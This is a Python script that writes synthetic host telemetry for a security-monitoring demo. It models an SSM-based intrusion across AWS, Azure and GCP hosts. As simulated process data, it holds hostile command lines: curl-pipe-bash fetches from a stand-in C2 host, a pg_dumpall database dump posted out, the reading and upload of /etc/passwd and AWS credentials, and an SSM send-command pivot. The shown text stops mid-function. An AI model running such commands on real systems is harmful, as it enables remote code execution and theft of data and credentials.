#!/usr/bin/env python3
"""Writes the host telemetry of the runwatch demo under infra/demo/telemetry/.

    python3 infra/demo/telemetry/generate_telemetry.py

The control-plane half of the demo is written by ../generate.py. This script only
imports that module's constants (instance ids, command ids, VM names, scripts), so
both halves name the same things; it never calls generate.main(). It also reads
../aws/eventbridge/ec2-command-invocation-status-change.jsonl, which generate.py
wrote, to start each SSM execution before the moment its invocation finished.

Deterministic: a fixed-seed PRNG, ids derived from hashes, no clock. A second run
gives byte-identical files. See ../README.md, section "Host telemetry and expected
correlation", for the story, the formats and their sources.

Files:
  aws/web-sysmon.log        Sysmon for Linux (XML in syslog), web tier, 5 of the 12 web hosts
  aws/app-sysmon.log        Sysmon for Linux, the orders app server
  aws/db-audit.log          Linux audit (auditd raw log, node= prefix), both database hosts
  azure/defender-device-process-events.jsonl
                            Defender for Endpoint DeviceProcessEvents rows, 3 of the 4 VMs
  gcp/osquery-results.log   osquery results log, 3 instances
  host-map.csv              telemetry host name -> control-plane VM id
"""

from __future__ import annotations

import datetime as dt
import hashlib
import heapq
import json
import random
import sys
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
DEMO = HERE.parent
sys.dont_write_bytecode = True  # keep __pycache__ out of the demo folder
sys.path.insert(0, str(DEMO))
import generate as G  # noqa: E402  constants only

R = random.Random(2026111807)
UTC = dt.timezone.utc
T = G.T
NOBODY = 4294967295  # unset auid / ses

# Every telemetry file covers Tue 17 00:00 - Sat 21 00:00 UTC (the days with admin commands).
START, END = T("2026-11-17 00:00:00"), T("2026-11-21 00:00:00")


def sec(t: dt.datetime, s: float) -> dt.datetime:
    return t + dt.timedelta(seconds=s)


def h(*parts, n: int = 8) -> str:
    return hashlib.sha256("|".join(str(p) for p in parts).encode()).hexdigest()[:n]


def hours(start: dt.datetime, end: dt.datetime):
    t = start.replace(minute=0, second=0, microsecond=0)
    while t < end:
        yield t
        t += dt.timedelta(hours=1)


# ====================================================================== process model


class Proc:
    """One process start (one execve) on one host."""

    def __init__(self, host, t, pid, parent, image, argv, *, cwd, user, uid, ses, auid, logged, comm=None):
        self.host, self.t, self.pid, self.parent = host, t, pid, parent
        self.ppid = parent.pid if parent is not None else 0
        self.image, self.argv = image, argv
        self.cmd = " ".join(argv)
        self.cwd, self.user, self.uid, self.ses, self.auid = cwd, user, uid, ses, auid
        self.logged = logged
        self.comm = (comm or Path(argv[0]).name)[:15]
        self.guid = "{%s-%04x-%04x-%s-%s0000}" % (
            host.mhash, int(t.timestamp()) & 0xFFFF, int(t.timestamp()) >> 16,
            h(host.name, pid, t, n=4), h(pid, t, host.name, n=8))


class Host:
    """A host's timeline. Actions are scheduled with at() and run in time order, so pids grow with time."""

    def __init__(self, name: str, *, pid_start: int):
        self.name = name
        self.mhash = h("machine-id", name)
        self.next_pid = pid_start
        self.events: list[tuple[dt.datetime, str, object]] = []  # (time, kind, payload)
        self.todo: list[tuple[dt.datetime, int, object]] = []  # a heap; actions may schedule more actions
        self.seq = 0
        self.procs: dict[str, Proc] = {}  # named long-lived processes (current boot)

    def at(self, t: dt.datetime, fn) -> None:
        self.seq += 1
        heapq.heappush(self.todo, (t, self.seq, fn))

    def run(self) -> None:
        while self.todo:
            t, _, fn = heapq.heappop(self.todo)
            fn(t)
        self.events.sort(key=lambda e: e[0])

    def alloc(self, lo: int = 2, hi: int = 40) -> int:
        self.next_pid += R.randint(lo, hi)
        return self.next_pid

    def daemon(self, key, t, pid, parent, image, argv, *, logged=False, user="root", uid=0, cwd="/") -> Proc:
        p = Proc(self, t, pid, parent, image, argv, cwd=cwd, user=user, uid=uid, ses=NOBODY, auid=NOBODY,
                 logged=logged)
        self.procs[key] = p
        if logged:
            self.events.append((t, "exec", p))
        return p

    def exec(self, t, parent: Proc, image: str, argv: list[str], *, cwd=None, user=None, uid=None, ses=None,
             auid=None, pid=None, comm=None) -> Proc:
        p = Proc(self, t, pid or self.alloc(), parent, image, argv,
                 cwd=cwd if cwd is not None else parent.cwd,
                 user=user if user is not None else parent.user,
                 uid=uid if uid is not None else parent.uid,
                 ses=ses if ses is not None else parent.ses,
                 auid=auid if auid is not None else parent.auid, logged=True, comm=comm)
        self.events.append((t, "exec", p))
        return p

    def reexec(self, t, proc: Proc, image: str, argv: list[str]) -> Proc:
        """The same pid calls execve again (bash -c running a file with a shebang, env, ...)."""
        return self.exec(t, proc.parent, image, argv, pid=proc.pid, cwd=proc.cwd, user=proc.user, uid=proc.uid,
                         ses=proc.ses, auid=proc.auid)

    def other(self, t, kind: str, payload) -> None:
        self.events.append((t, kind, payload))


# ====================================================================== AWS (Sysmon for Linux, auditd)

WEB_HOSTS = {inst: f"ip-10-0-1-{11 + i}" for i, inst in enumerate(G.WEB)}  # web-01 = ip-10-0-1-11 ...
APP_HOST = "ip-10-0-3-31"
DB_HOSTS = {G.DB[0]: "ip-10-0-2-21", G.DB[1]: "ip-10-0-2-22"}
SYSMON_WEB = G.WEB[:5]  # Sysmon runs on web-01..05 only; web-06..12 send nothing
ORPHAN_CMD = "9f8e7d6c-0000-4000-8000-0000000000ff"
SSM_ENDPOINT = "10.0.0.12"  # interface VPC endpoint of ssm / ssmmessages / ec2messages
AWS_BOOT = T("2026-11-14 09:12:41")
CWD_SSM = "/usr/bin"  # amazon-ssm-agent.service has WorkingDirectory=/usr/bin/

INVOCATION_DONE: dict[tuple[str, str], dt.datetime] = {}
for line in (DEMO / "aws" / "eventbridge" / "ec2-command-invocation-status-change.jsonl").read_text().splitlines():
    e = json.loads(line)
    INVOCATION_DONE[(e["detail"]["command-id"], e["detail"]["instance-id"])] = \
        dt.datetime.strptime(e["time"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)

SH = {"al2023": "/usr/bin/bash", "debian": "/usr/bin/dash"}  # what "sh" resolves to


def script_path(inst: str, cmd: str, plugin: str = "awsrunShellScript/0.awsrunShellScript") -> str:
    return f"/var/lib/amazon/ssm/{inst}/document/orchestration/{cmd}/{plugin}/_script.sh"


class AwsHost(Host):
    def __init__(self, name, inst, os_, *, web: bool):
        super().__init__(name, pid_start=R.randint(30000, 60000))
        self.inst, self.os, self.web = inst, os_, web
        self.sh = SH[os_]
        self.ip = name[3:].replace("-", ".")
        self.cron_ses = R.randint(300, 900)
        boot = AWS_BOOT + dt.timedelta(seconds=R.randint(0, 3000))
        self.systemd = self.daemon("systemd", boot, 1, None, "/usr/lib/systemd/systemd",
                                   ["/usr/lib/systemd/systemd", "--switched-root", "--system", "--deserialize=32"])
        if os_ == "al2023":
            self.daemon("cron", sec(boot, 3.1), R.randint(2080, 2120), self.systemd, "/usr/sbin/crond",
                        ["/usr/sbin/crond", "-n"])
        else:
            self.daemon("cron", sec(boot, 2.7), R.randint(600, 640), self.systemd, "/usr/sbin/cron",
                        ["/usr/sbin/cron", "-f"])
        self.start_agent(sec(boot, 4.2), boot=True)
        if web:
            self.daemon("nginx", sec(boot, 5.0), R.randint(2300, 2340), self.systemd, "/usr/sbin/nginx",
                        ["nginx:", "worker", "process"], user="nginx", uid=995)

    def start_agent(self, t, boot=False):
        pid = R.randint(2140, 2180) if boot else self.alloc()
        a = self.daemon("agent", t, pid, self.systemd, "/usr/bin/amazon-ssm-agent",
                        ["/usr/bin/amazon-ssm-agent"], logged=not boot, cwd=CWD_SSM)
        self.daemon("worker", sec(t, 0.6), pid + R.randint(30, 60) if boot else self.alloc(), a,
                    "/usr/bin/ssm-agent-worker", ["/usr/bin/ssm-agent-worker"], logged=not boot, cwd=CWD_SSM)

    # -- background ---------------------------------------------------------------------
    def hourly(self):
        for hr in hours(START, END):
            if self.os == "al2023":  # cronie /etc/cron.d/0hourly: "01 * * * * root run-parts /etc/cron.hourly"
                self.at(sec(hr, 60 + R.uniform(0.05, 0.9)), self._cron_al)
            else:  # Debian /etc/crontab: "17 * * * * root cd / && run-parts --report /etc/cron.hourly"
                self.at(sec(hr, 17 * 60 + R.uniform(0.05, 0.9)), self._cron_deb)

    def _cron_al(self, t):
        self.cron_ses += 1
        fork = Proc(self, sec(t, -0.002), self.alloc(), self.procs["cron"], "/usr/sbin/crond", ["/usr/sbin/crond", "-n"],
                    cwd="/", user="root", uid=0, ses=NOBODY, auid=NOBODY, logged=False)
        self.exec(t, fork, self.sh, ["/bin/sh", "-c", "run-parts /etc/cron.hourly"], cwd="/root",
                  ses=self.cron_ses, auid=0)

    def _cron_deb(self, t):
        self.cron_ses += 1
        ses = self.cron_ses
        child = self.alloc()  # the forked cron that does PAM and execs the job (no execve of its own)
        self.other(sec(t, -0.004), "pam", {"pid": child, "ses": ses, "op": "open"})
        self.exec(t, Proc(self, t, child, self.procs["cron"], "/usr/sbin/cron", ["/usr/sbin/CRON", "-f"],
                          cwd="/root", user="root", uid=0, ses=ses, auid=0, logged=False),
                  self.sh, ["/bin/sh", "-c", "cd / && run-parts --report /etc/cron.hourly"], cwd="/root",
                  ses=ses, auid=0)
        self.other(sec(t, 0.05), "pam", {"pid": child, "ses": ses, "op": "close"})

    def agent_poll(self, t):
        self.other(t, "net", {"proc": self.procs["agent"], "dst": SSM_ENDPOINT, "dport": 443})

    def busy(self, start, end, every=(150, 330)):
        """Extra ordinary traffic in a window, so the host is heard between process starts."""
        t = sec(start, R.uniform(0, every[0]))
        while t < end:
            if self.web:
                self.at(t, lambda t: self.other(t, "net", {"proc": self.procs["nginx"], "dst": "10.0.4.20",
                                                           "dport": 8080}))
            else:
                self.at(t, self.agent_poll)
            t = sec(t, R.uniform(*every))

    # -- SSM ----------------------------------------------------------------------------
    def run_command(self, t, cmd, children, plugin="awsrunShellScript/0.awsrunShellScript"):
        """ssm-agent-worker -> ssm-document-worker <command-id> -> sh -c <script> -> children(sh, t)."""
        def go(t):
            w = self.exec(t, self.procs["worker"], "/usr/bin/ssm-document-worker",
                          ["/usr/bin/ssm-document-worker", cmd], cwd=CWD_SSM)
            if children is None:  # the worker started but no script ran (see README)
                return
            sh = self.exec(sec(t, R.uniform(0.18, 0.4)), w, self.sh, ["sh", "-c", script_path(self.inst, cmd, plugin)],
                           comm="sh")
            children(sh, sec(sh.t, 0.004))
        self.at(t, go)


def curl_pipe_bash(host: AwsHost, sh: Proc, t, url: str, payload=None) -> None:
    """The script line `curl -s URL | bash`: two children of the shell, then what the payload does."""
    c = host.exec(t, sh, "/usr/bin/curl", ["curl", "-s", url])
    host.other(sec(t, 0.02), "net", {"proc": c, "dst": G.C2, "dport": 80})
    b = host.exec(sec(t, 0.0004), sh, "/usr/bin/bash", ["bash"])
    if payload:
        payload(b, sec(t, R.uniform(0.3, 0.6)))


def c2_recon(host: AwsHost, b: Proc, t) -> None:
    """What http://203.0.113.9/x does on a web host: look around, report, fetch a beacon, detach it."""
    host.exec(t, b, "/usr/bin/id", ["id"])
    host.exec(sec(t, 0.01), b, "/usr/bin/uname", ["uname", "-a"])
    c = host.exec(sec(t, 0.03), b, "/usr/bin/curl", ["curl", "-s", "-o", "/tmp/.xs", f"http://{G.C2}/xs"])
    host.other(sec(t, 0.05), "net", {"proc": c, "dst": G.C2, "dport": 80})
    return host.exec(sec(t, 0.4), b, "/usr/bin/bash", ["bash", "/tmp/.xs"])


def aws_hosts() -> dict[str, AwsHost]:
    hosts: dict[str, AwsHost] = {}
    for inst in SYSMON_WEB:
        hosts[inst] = AwsHost(WEB_HOSTS[inst], inst, "al2023", web=True)
    hosts[G.APP] = AwsHost(APP_HOST, G.APP, "al2023", web=False)
    for inst in G.DB:
        hosts[inst] = AwsHost(DB_HOSTS[inst], inst, "debian", web=False)
    for hst in hosts.values():
        hst.hourly()
    A = G.AWS_CMD
    web = [hosts[i] for i in SYSMON_WEB]
    app = hosts[G.APP]
    db0, db1 = hosts[G.DB[0]], hosts[G.DB[1]]

    # ---- A1 Tue 14:31:05 alice's Session Manager session on the app server ----------------
    sid = A["alice_session"]

    def session(t):
        sw = app.exec(t, app.procs["worker"], "/usr/bin/ssm-session-worker", ["/usr/bin/ssm-session-worker", sid],
                      cwd=CWD_SSM)
        shell = app.exec(sec(t, 0.31), sw, app.sh, ["sh"], user="ssm-user", uid=1001, comm="sh")
        app.other(sec(t, 0.2), "net", {"proc": sw, "dst": SSM_ENDPOINT, "dport": 443})
        s1 = app.exec(sec(t, 34.2), shell, "/usr/bin/sudo", ["sudo", "journalctl", "-u", "orders-worker", "-n", "200"])
        app.exec(sec(t, 34.25), s1, "/usr/bin/journalctl", ["journalctl", "-u", "orders-worker", "-n", "200"],
                 user="root", uid=0)
        app.exec(sec(t, 71.8), shell, "/usr/bin/cat", ["cat", "/etc/orders/worker.conf"])
        s2 = app.exec(sec(t, 118.4), shell, "/usr/bin/sudo", ["sudo", "vi", "/etc/orders/worker.conf"])
        app.exec(sec(t, 118.45), s2, "/usr/bin/vi", ["vi", "/etc/orders/worker.conf"], user="root", uid=0)
    app.at(T("2026-11-17 14:31:06.806"), session)

    # ---- A2 Tue 14:32:10 build-bot's deploy to web-01, web-02 ------------------------------
    def deploy(hst):
        def ch(sh, t):
            d = hst.exec(t, sh, "/usr/bin/bash", ["/bin/bash", "/opt/orders-web/bin/deploy.sh", "2026.11.17-3"])
            hst.exec(sec(t, 1.3), d, "/usr/bin/aws", ["/usr/bin/aws", "s3", "cp",
                     "s3://example-artifacts/orders-web/2026.11.17-3.tar.gz", "/opt/orders-web/releases/"])
            hst.exec(sec(t, 6.9), d, "/usr/bin/tar", ["tar", "-xzf", "/opt/orders-web/releases/2026.11.17-3.tar.gz",
                     "-C", "/opt/orders-web/releases/2026.11.17-3"])
            hst.exec(sec(t, 8.2), d, "/usr/bin/systemctl", ["systemctl", "restart", "orders-web"])
        return ch
    for hst in web[:2]:
        done = INVOCATION_DONE[(A["deploy"], hst.inst)]
        hst.run_command(min(sec(T("2026-11-17 14:32:10"), R.uniform(1.5, 4)), sec(done, -12)), A["deploy"],
                        deploy(hst))
        hst.busy(T("2026-11-17 14:20:00"), T("2026-11-17 14:50:00"))

    # ---- A3 Tue 14:33:40 alice's SendCommand to the app server ------------------------------
    app.run_command(T("2026-11-17 14:33:41.734"), A["alice_cmd"],
                    lambda sh, t: app.exec(t, sh, "/usr/bin/systemctl", ["systemctl", "restart", "orders-worker"]))
    app.busy(T("2026-11-17 14:20:00"), T("2026-11-17 14:50:00"))

    # ---- A5 Wed 02:00:07 maintenance window AWS-RunPatchBaseline (MaxConcurrency 25%) -------
    def patch(hst):
        def ch(sh, t):
            p = hst.exec(t, sh, "/usr/bin/python3", ["python3", "-c", "import sys; print(sys.version_info[0])"])
            hst.exec(sec(t, 2.1), sh, "/usr/bin/python3",
                     ["python3", "/var/log/amazon/ssm/patch-baseline-operations/main_entrance.py", "--file",
                      "/var/log/amazon/ssm/patch-baseline-operations/payload.json"])
            hst.other(sec(t, 2.5), "net", {"proc": p, "dst": "10.0.0.14", "dport": 443})
        return ch
    for hst in web:
        done = INVOCATION_DONE[(A["patch"], hst.inst)]
        start = max(sec(T("2026-11-18 02:00:07"), R.uniform(1.2, 3.5)), sec(done, -R.uniform(290, 420)))
        hst.run_command(start, A["patch"], patch(hst), plugin="PatchLinux")
        hst.busy(T("2026-11-18 01:50:00"), T("2026-11-18 02:45:00"))

    # ---- A8 Wed 03:07:12 the fan-out: web-01..04 run it, web-05 does not, web-06 sends nothing --
    for n, hst in enumerate(web):
        hst.busy(T("2026-11-18 02:52:00"), T("2026-11-18 03:40:00"))
        if n == 4:
            continue

        def ch(sh, t, hst=hst, n=n):
            def payload(b, t):
                beacon = c2_recon(hst, b, t)
                if n == 0:  # web-01 pivots with its own instance role (A10 in CloudTrail at 03:10:50 / 03:11:27)
                    aws = "/usr/local/aws-cli/v2/2.22.4/dist/aws"
                    hst.at(T("2026-11-18 03:10:49.372"), lambda t: hst.exec(
                        t, beacon, aws, ["aws", "sts", "get-caller-identity"]))
                    hst.at(T("2026-11-18 03:11:26.488"), lambda t: hst.exec(
                        t, beacon, aws, ["aws", "ssm", "send-command", "--instance-ids", G.DB[0], "--document-name",
                                         "AWS-RunShellScript", "--parameters",
                                         f'commands=["curl -s http://{G.C2}/db.sh | bash"]']))
            curl_pipe_bash(hst, sh, t, f"http://{G.C2}/x", payload)
        hst.run_command(sec(T("2026-11-18 03:07:12"), 1.4 + n * R.uniform(0.4, 2.5)), A["attack"], ch)

    # web-05 (ip-10-0-1-15): a daily timer restarts the SSM agent at 03:07 + random delay. On Wed it
    # fired one second after the attack's document worker started; no script ever ran there.
    w5 = web[4]
    for day in ("2026-11-17", "2026-11-18", "2026-11-19", "2026-11-20"):
        t0 = T(f"{day} 03:07:14.108") if day == "2026-11-18" else sec(T(f"{day} 03:07:00"), R.uniform(1, 29))

        def restart(t, w5=w5):
            s = w5.exec(t, w5.systemd, "/usr/bin/bash", ["/bin/bash", "/usr/local/sbin/ssm-proxy-refresh"], cwd="/")
            c = w5.exec(sec(t, 0.011), s, "/usr/bin/curl", ["curl", "-sf", "-o", "/etc/amazon/ssm/proxy.env.new",
                        "http://10.0.5.10/ssm-proxy.env"])
            w5.other(sec(t, 0.03), "net", {"proc": c, "dst": "10.0.5.10", "dport": 80})
            w5.exec(sec(t, 0.12), s, "/usr/bin/systemctl", ["systemctl", "restart", "amazon-ssm-agent"])
            w5.start_agent(sec(t, R.uniform(1.1, 1.6)))
        w5.at(t0, restart)
    w5.run_command(T("2026-11-18 03:07:13.602"), A["attack"], None)

    # ---- A10 Wed 03:11:27 the pivot lands on db-01 ---------------------------------------------
    def pivot(sh, t):
        def payload(b, t):
            dump = "pg_dumpall -U postgres | gzip | curl -s -X POST --data-binary @- http://%s/u" % G.C2
            x = db0.exec(t, b, "/usr/bin/bash", ["/bin/bash", "-c", dump])
            db0.exec(sec(t, 0.002), x, "/usr/lib/postgresql/15/bin/pg_dumpall", ["pg_dumpall", "-U", "postgres"])
            db0.exec(sec(t, 0.0025), x, "/usr/bin/gzip", ["gzip"])
            c = db0.exec(sec(t, 0.003), x, "/usr/bin/curl",
                         ["curl", "-s", "-X", "POST", "--data-binary", "@-", f"http://{G.C2}/u"])
            db0.other(sec(t, 0.04), "net", {"proc": c, "dst": G.C2, "dport": 80})
        curl_pipe_bash(db0, sh, t, f"http://{G.C2}/db.sh", payload)
    db0.run_command(T("2026-11-18 03:11:28.571"), A["pivot"], pivot)

    # ---- A11 Wed 03:13:55 the staged document on the tag: the 5 Sysmon web hosts run step "collect"
    def collect(hst):
        def ch(sh, t):
            c = hst.exec(t, sh, "/usr/bin/curl", ["curl", "-s", f"http://{G.C2}/d.sh", "-o", "/tmp/.d"])
            hst.other(sec(t, 0.02), "net", {"proc": c, "dst": G.C2, "dport": 80})
            hst.exec(sec(t, 0.41), sh, "/usr/bin/chmod", ["chmod", "+x", "/tmp/.d"])
            hst.exec(sec(t, 0.42), sh, "/usr/bin/bash", ["/bin/bash", "/tmp/.d"])
            hst.exec(sec(t, 1.9), sh, "/usr/bin/cat", ["cat", "/etc/passwd", "/root/.aws/credentials"])
            u = hst.exec(sec(t, 1.9004), sh, "/usr/bin/curl",
                         ["curl", "-s", "-X", "POST", "--data-binary", "@-", f"http://{G.C2}/u"])
            hst.other(sec(t, 1.93), "net", {"proc": u, "dst": G.C2, "dport": 80})
        return ch
    for hst in web:
        done = INVOCATION_DONE[(A["staged"], hst.inst)]
        hst.run_command(min(sec(T("2026-11-18 03:13:55"), R.uniform(1.5, 9)), sec(done, -4)), A["staged"],
                        collect(hst), plugin="collect")

    # ---- the databases: heard around the denied attempts (A6, A7), the pivot, the orphan ----------
    for d in (db0, db1):
        d.busy(T("2026-11-18 02:50:00"), T("2026-11-18 03:40:00"))
        d.busy(T("2026-11-18 03:55:00"), T("2026-11-18 04:30:00"))

    # ---- ORPHAN Wed 04:12 on db-02: a Run Command that no CloudTrail record announces ----------------
    def orphan(sh, t):
        def payload(b, t):
            db1.exec(t, b, "/usr/bin/id", ["id"])
            c = db1.exec(sec(t, 0.02), b, "/usr/bin/curl", ["curl", "-s", "-o", "/var/tmp/.k", f"http://{G.C2}/k"])
            db1.other(sec(t, 0.04), "net", {"proc": c, "dst": G.C2, "dport": 80})
            db1.exec(sec(t, 0.5), b, "/usr/bin/bash", ["/bin/bash", "/var/tmp/.k"])
        curl_pipe_bash(db1, sh, t, f"http://{G.C2}/x", payload)
    db1.run_command(T("2026-11-18 04:12:06.214"), ORPHAN_CMD, orphan)

    for hst in hosts.values():
        hst.run()
    return hosts


# ---- Sysmon for Linux rendering ------------------------------------------------------------------

SYSMON_GUID = "{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"


def sysmon_lines(hst: AwsHost) -> list[tuple[dt.datetime, str]]:
    out = []
    rec = R.randint(180000, 420000)
    spid = R.randint(690, 760)
    for t, kind, p in hst.events:
        if kind not in ("exec", "net") or not START <= t < END:
            continue
        rec += 1
        logged = sec(t, R.uniform(0.0002, 0.004))
        if kind == "exec":
            eid, ver, task = 1, 5, 1
            par = p.parent
            data = [
                ("RuleName", "-"), ("UtcTime", p.t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]),
                ("ProcessGuid", p.guid), ("ProcessId", p.pid), ("Image", p.image),
                ("FileVersion", "-"), ("Description", "-"), ("Product", "-"), ("Company", "-"),
                ("OriginalFileName", "-"), ("CommandLine", p.cmd), ("CurrentDirectory", p.cwd),
                ("User", p.user), ("LogonGuid", "{%s-0000-0000-%s-000000000000}" % (
                    hst.mhash, (p.uid & 0xFFFF).to_bytes(2, "little").hex())),
                ("LogonId", p.uid), ("TerminalSessionId", p.ses), ("IntegrityLevel", "no level"), ("Hashes", "-"),
                ("ParentProcessGuid", par.guid), ("ParentProcessId", par.pid), ("ParentImage", par.image),
                ("ParentCommandLine", par.cmd), ("ParentUser", par.user),
            ]
        else:
            eid, ver, task = 3, 5, 3
            pr = p["proc"]
            data = [
                ("RuleName", "-"), ("UtcTime", t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]),
                ("ProcessGuid", pr.guid), ("ProcessId", pr.pid), ("Image", pr.image), ("User", pr.user),
                ("Protocol", "tcp"), ("Initiated", "true"), ("SourceIsIpv6", "false"), ("SourceIp", hst.ip),
                ("SourceHostname", "-"), ("SourcePort", R.randint(32768, 60999)), ("SourcePortName", "-"),
                ("DestinationIsIpv6", "false"), ("DestinationIp", p["dst"]), ("DestinationHostname", "-"),
                ("DestinationPort", p["dport"]), ("DestinationPortName", "-"),
            ]
        xml = (
            f'<Event><System><Provider Name="Linux-Sysmon" Guid="{SYSMON_GUID}"/><EventID>{eid}</EventID>'
            f'<Version>{ver}</Version><Level>4</Level><Task>{task}</Task><Opcode>0</Opcode>'
            f'<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="{logged.strftime("%Y-%m-%dT%H:%M:%S.%f")}000Z"/>'
            f'<EventRecordID>{rec}</EventRecordID><Correlation/><Execution ProcessID="{spid}" ThreadID="{spid}"/>'
            f'<Channel>Linux-Sysmon/Operational</Channel><Computer>{hst.name}</Computer><Security UserId="0"/>'
            f'</System><EventData>'
            + "".join(f'<Data Name="{k}">{escape(str(v))}</Data>' for k, v in data)
            + "</EventData></Event>")
        out.append((logged, f"{logged.strftime('%b %d %H:%M:%S')} {hst.name} sysmon: {xml}"))
    return out


# ---- auditd rendering ---------------------------------------------------------------------------


def audit_str(s: str) -> str:
    """An execve argument as the kernel logs it: quoted, or upper-case hex when it needs encoding."""
    if any(c <= " " or c > "~" or c == '"' for c in s):
        return s.encode().hex().upper()
    return f'"{s}"'


def audit_lines(hst: AwsHost) -> list[tuple[dt.datetime, str]]:
    out = []
    serial = R.randint(41000, 47000)
    inode = {}
    for t, kind, p in hst.events:
        if not START <= t < END:
            continue
        serial += R.randint(1, 14)  # records of other rules and other processes are not exported
        stamp = f"audit({t.timestamp():.3f}:{serial})"
        pre = f"node={hst.name} "
        if kind == "exec":
            argv_name = p.argv[0] if p.argv[0].startswith("/") else "/usr/bin/sh" if p.argv[0] == "sh" else p.image
            ses = p.ses
            tty = "(none)"
            ptr = R.randint(0x55A0_0000_0000, 0x55FF_FFFF_0000)
            rec = [
                f"type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0={ptr:x} "
                f"a1={ptr + 0x60:x} a2={ptr + 0xA0:x} a3=7f{R.randint(0, 0xFFFFFFFFFF):010x} items=2 ppid={p.ppid} "
                f"pid={p.pid} auid={p.auid} uid={p.uid} gid={p.uid} euid={p.uid} suid={p.uid} fsuid={p.uid} "
                f"egid={p.uid} sgid={p.uid} fsgid={p.uid} tty={tty} ses={ses} comm=\"{p.comm}\" exe=\"{p.image}\" "
                f"subj=unconfined key=\"exec\"",
                f"type=EXECVE msg={stamp}: argc={len(p.argv)} "
                + " ".join(f"a{i}={audit_str(a)}" for i, a in enumerate(p.argv)),
                f"type=CWD msg={stamp}: cwd=\"{p.cwd}\"",
                f"type=PATH msg={stamp}: item=0 name=\"{argv_name}\" inode={inode.setdefault(p.image, R.randint(1500, 790000))} "
                f"dev=103:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 "
                f"cap_fver=0 cap_frootid=0",
                f"type=PATH msg={stamp}: item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=1573 dev=103:01 "
                f"mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 "
                f"cap_frootid=0",
                f"type=PROCTITLE msg={stamp}: proctitle={chr(0).join(p.argv).encode()[:128].hex().upper()}",
                f"type=EOE msg={stamp}:",
            ]
        elif kind == "net":
            pr = p["proc"]
            a, b_, c, d = (int(x) for x in p["dst"].split("."))
            saddr = f"0200{p['dport']:04X}{a:02X}{b_:02X}{c:02X}{d:02X}0000000000000000"
            rec = [
                f"type=SYSCALL msg={stamp}: arch=c000003e syscall=42 success=no exit=-115 a0={R.randint(7, 19)} "
                f"a1=c000{R.randint(0, 0xFFFFFF):06x} a2=10 a3=0 items=0 ppid={pr.ppid} pid={pr.pid} "
                f"auid={NOBODY} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses={NOBODY} "
                f"comm=\"{pr.comm}\" exe=\"{pr.image}\" subj=unconfined key=\"egress\"",
                f"type=SOCKADDR msg={stamp}: saddr={saddr}",
                f"type=PROCTITLE msg={stamp}: proctitle={chr(0).join(pr.argv).encode()[:128].hex().upper()}",
                f"type=EOE msg={stamp}:",
            ]
        elif kind == "pam":
            grant = "pam_loginuid,pam_env,pam_env,pam_permit,pam_unix,pam_limits"
            if p["op"] == "open":
                rec = [
                    f"type=LOGIN msg={stamp}: pid={p['pid']} uid=0 subj=unconfined old-auid={NOBODY} auid=0 "
                    f"tty=(none) old-ses={NOBODY} ses={p['ses']} res=1",
                ]
                serial += 1
                stamp2 = f"audit({t.timestamp():.3f}:{serial})"
                rec.append(
                    f"type=USER_START msg={stamp2}: pid={p['pid']} uid=0 auid=0 ses={p['ses']} subj=unconfined "
                    f"msg='op=PAM:session_open grantors={grant} acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? "
                    f"addr=? terminal=cron res=success'")
            else:
                rec = [
                    f"type=USER_END msg={stamp}: pid={p['pid']} uid=0 auid=0 ses={p['ses']} subj=unconfined "
                    f"msg='op=PAM:session_close grantors={grant} acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? "
                    f"addr=? terminal=cron res=success'"]
        else:
            continue
        out.append((t, "\n".join(pre + r for r in rec)))
    return out


# ====================================================================== Azure (Defender for Endpoint)

RUNCMD_EXT = "/var/lib/waagent/Microsoft.CPlat.Core.RunCommandLinux-1.0.10/bin"
CSE_EXT = "/var/lib/waagent/Microsoft.Azure.Extensions.CustomScript-2.1.10/bin"


class AzHost(Host):
    def __init__(self, name: str, boot: dt.datetime):
        super().__init__(name, pid_start=R.randint(90000, 200000))
        self.device_id = h("mde-device", name, n=40)
        self.report = R.randint(20000, 90000)
        self.boot(boot, logged=False)

    def boot(self, t, logged=True):
        self.next_pid = R.randint(380, 420) if logged else self.next_pid
        self.systemd = self.daemon("systemd", t, 1, None, "/usr/lib/systemd/systemd", ["/sbin/init"], logged=False)
        d = self.daemon("cron", sec(t, 6.2), self.alloc(5, 30) if logged else R.randint(700, 760), self.systemd,
                        "/usr/sbin/cron", ["/usr/sbin/cron", "-f", "-P"], logged=logged)
        wd = self.daemon("waagentd", sec(t, 7.9), self.alloc(5, 30) if logged else d.pid + R.randint(40, 90),
                         self.systemd, "/usr/bin/python3.10",
                         ["/usr/bin/python3", "-u", "/usr/sbin/waagent", "-daemon"], logged=logged)
        self.daemon("waagent", sec(t, 14.3), self.alloc(100, 300) if logged else wd.pid + R.randint(200, 400), wd,
                    "/usr/bin/python3.10",
                    ["python3", "-u", "bin/WALinuxAgent-2.12.0.4-py3.12.egg", "-run-exthandlers"], logged=logged,
                    cwd="/var/lib/waagent/WALinuxAgent-2.12.0.4")

    def cron_job(self, t, argv, user="root", uid=0):
        fork = Proc(self, t, self.alloc(), self.procs["cron"], "/usr/sbin/cron", ["/usr/sbin/CRON", "-f", "-P"],
                    cwd="/", user=user, uid=uid, ses=NOBODY, auid=NOBODY, logged=False)
        return self.exec(sec(t, 0.002), fork, "/usr/bin/dash", ["/bin/sh", "-c", argv], cwd="/root" if uid == 0
                         else "/var/lib/postgresql", user=user, uid=uid)

    def extension(self, t, ext_dir, shim, binary):
        """waagent -> sh -c '<shim> enable' -> bash <shim> enable -> <extension binary> enable."""
        s = self.exec(t, self.procs["waagent"], "/usr/bin/dash", ["/bin/sh", "-c", f"{ext_dir}/{shim} enable"],
                      cwd=str(Path(ext_dir).parent))
